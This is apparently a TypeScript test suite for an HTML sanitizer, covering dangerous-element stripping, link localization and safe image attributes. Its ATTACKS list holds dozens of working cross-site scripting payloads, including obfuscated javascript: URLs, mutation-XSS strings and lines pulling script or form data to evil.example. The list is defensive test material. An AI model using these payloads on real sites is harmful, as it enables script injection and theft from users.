// @vitest-environment node
import * as fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { localizePath } from '../parse/locale-path.ts';
import { createServerSanitize } from './sanitize.ts';

const sanitize = createServerSanitize();
const ELEMENTS =
  /^(a|abbr|b|blockquote|br|caption|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|h[2-6]|hr|i|img|ins|kbd|li|mark|ol|p|pre|q|s|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|u|ul)$/;
const ATTRIBUTES =
  /^(alt|colspan|datetime|dir|height|href|id|lang|loading|rel|reversed|rowspan|scope|src|start|target|title|width)$/;
const { document } = new JSDOM('').window;

/**
 * Parses HTML like a browser, and returns the names of all elements and attributes that the sanitizer should
 * have removed.
 */
function dangers(html: string): string[] {
  const body = document.createElement('body');
  body.innerHTML = html;
  return [...body.querySelectorAll('*')].flatMap((element) => [
    ...(ELEMENTS.test(element.localName) && element.namespaceURI === 'http://www.w3.org/1999/xhtml'
      ? []
      : [`<${element.localName}>`]),
    ...[...element.attributes].flatMap(({ name, value }) => {
      // No script can remove this attribute after parsing, so the sanitizer empties it.
      if (name === 'is' && value === '') return [];
      if (!ATTRIBUTES.test(name)) return [name];
      if (name === 'href' && !/^(https?:|mailto:|tel:|sms:|[/#?])/i.test(value)) return [`href=${value}`];
      return name === 'src' && !/^(https?:|\/|data:image\/)/i.test(value) ? [`src=${value}`] : [];
    }),
  ]);
}

const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt src="//evil.example/x.js"></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload="alert(2)">',
  '<img/src=`x`/onerror=alert(1)>',
  '<p onclick="alert(1)" onpointerover=alert(2)>x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://site.example/1">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="&#1;javascript:alert(1)">',
  '<img srcset="x 1x, javascript:alert(1) 2x">',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src=1>"></style></mtext></svg></mglyph></mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">x</p>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="//evil.example/x.swf">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:alert(1)">Go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<video src=x onerror=alert(1)></video><audio src=x></audio><source src=x>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)><p>x</p></body>',
  '<skein-island src="/evil.js" when="load">x</skein-island><script type="application/json">{}</script>',
  '<button data-action="open-address-check" data-detail="{}">x</button>',
  '<a href="/x" data-action="open-drawer" data-analytics=\'{"event":"x"}\' data-anything="1">x</a>',
  '<x-element is="y">x</x-element><p is="z" slot="s" part="p" popover>x</p>',
  '<p aria-hidden="true" role="alert" class="sc-abc" hidden contenteditable tabindex="1">x</p>',
  '<img name="cookie"><a id="cookie" name="forms">x</a>',
  '<p id="a" id="b" ONCLICK=alert(1)//',
  '<a href="/x" target="_blank" rel="opener" ping="//evil.example" download>x</a>',
  '<img usemap="#m" src="/a.png"><map name="m"><area href="javascript:alert(1)"></map>',
  '\u0000<scr\u0000ipt>alert(1)</script>',
];

describe('HTML of editors', () => {
  it.each(ATTACKS)('is harmless afterwards: %s', (attack) => {
    const clean = sanitize(attack);
    expect(dangers(clean)).toEqual([]);
    // HTML stays harmless if a browser parses it, and its result is parsed again.
    expect(dangers(sanitize(clean))).toEqual([]);
    expect(sanitize(clean)).toBe(clean);
  });

  it('is harmless whatever it is made of', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom(
        '<',
        '>',
        '</',
        '"',
        "'",
        '&lt;',
        '<!--',
        '-->',
        '<svg>',
        '</svg>',
        '<math>',
        '<p ',
        '<a href=',
        '<table>',
        '<style>',
        '<![CDATA[',
        ']]>',
        '</p>',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 5 }), (pieces) => {
        expect(dangers(sanitize(pieces.join('')))).toEqual([]);
      }),
      { numRuns: 300 },
    );
  });

  it('would be found out by this very test if it were not cleaned', () => {
    const found = ATTACKS.filter((attack) => dangers(attack).length > 0);
    expect(found.length).toBeGreaterThan(ATTACKS.length * 0.75);
  });

  it.each([
    ['<p>Fast, <strong>fair</strong> &amp; <em>simple</em>.</p>'],
    ['<ul><li>One</li><li>Two</li></ul>'],
    ['<h2>Terms</h2><blockquote>Yes</blockquote><hr>'],
    [
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    ],
    ['<details><summary>More</summary><p>Text</p></details>'],
    ['<p lang="es" dir="ltr">Hola<br>mundo</p>'],
    ['<ol start="3" reversed=""><li>x</li></ol>'],
    ['<time datetime="2026-11-01">1 November</time>'],
    ['Plain text > markup'],
    [''],
  ])('stays as it is when it is sound: %s', (html) => expect(sanitize(html)).toBe(html));

  it('keeps the words of an element that may not stay', () => {
    expect(sanitize('<center>text</center><skein-island>words</skein-island>')).toBe('textwords');
  });

  it('has no first heading: the page has its own', () => {
    expect(sanitize('<H1 lang="es">Title</H1\n>')).toBe('<h2 lang="es">Title</h2>');
  });
});

describe('links in text', () => {
  const toSpanish = (href: string) => localizePath(href, 'es');
  it.each([
    ['/plans?x=1#y', '/intl/es/plans?x=1#y'],
    ['/', '/intl/es'],
    ['/intl/es/plans', '/intl/es/plans'],
    ['/assets/terms.pdf', '/assets/terms.pdf'],
    ['https://example.com/a', 'https://example.com/a'],
    ['//example.com/a', 'https://example.com/a'],
    ['#top', '#top'],
    ['tel:+15550100', 'tel:+15550100'],
    ['mailto:hello@example.com', 'mailto:hello@example.com'],
  ])('lead from %s to %s in Spanish', (href, localized) => {
    expect(sanitize(`<a href="${href}">x</a>`, toSpanish)).toBe(`<a href="${localized}">x</a>`);
  });

  it('take the language of their own page, not of the one before', () => {
    const link = '<a href="/plans">x</a>';
    expect(sanitize(link, toSpanish)).toContain('/intl/es/plans');
    expect(sanitize(link)).toBe(link);
    expect(sanitize(link, toSpanish)).toContain('/intl/es/plans');
  });

  it.each([
    ['<a href="/x" target="_blank">x</a>', { href: '/x', target: '_blank', rel: 'noopener' }],
    ['<a href="/x" target="_blank" rel="opener">x</a>', { href: '/x', target: '_blank', rel: 'noopener' }],
    ['<a href="/x" target="_top">x</a>', { href: '/x' }],
    ['<a href="/x" target="_BLANK">x</a>', { href: '/x' }],
    ['<a href="/x" target="frame" rel="nofollow">x</a>', { href: '/x', rel: 'nofollow' }],
    ['<a href="javascript:1" target="_blank">x</a>', {}],
    ['<p href="/x" target="_blank" src="/y">x</p>', {}],
  ])('open elsewhere only in a tab that cannot reach back: %s', (html, attributes) => {
    const { firstElementChild } = new JSDOM(sanitize(html)).window.document.body;
    expect(
      Object.fromEntries([...(firstElementChild?.attributes ?? [])].map(({ name, value }) => [name, value])),
    ).toEqual(attributes);
  });
});

describe('pictures in text', () => {
  it.each([
    ['<img src="/a.png" alt="A porch" width="80" height="40">', ['/a.png', 'A porch']],
    ['<img src="https://images.example/a.png">', ['https://images.example/a.png', '']],
    ['<img src="data:image/png;base64,AAAA" alt="">', ['data:image/png;base64,AAAA', '']],
    ['<img src="data:text/html,x" alt="x">', [null, 'x']],
    ['<img src="a.png" alt="x">', [null, 'x']],
  ])('load late, have alternative text, and come from where pictures come from: %s', (html, [src, alt]) => {
    const picture = new JSDOM(sanitize(html)).window.document.querySelector('img');
    expect([
      picture?.getAttribute('src'),
      picture?.getAttribute('alt'),
      picture?.getAttribute('loading'),
    ]).toEqual([src, alt, 'lazy']);
  });
});
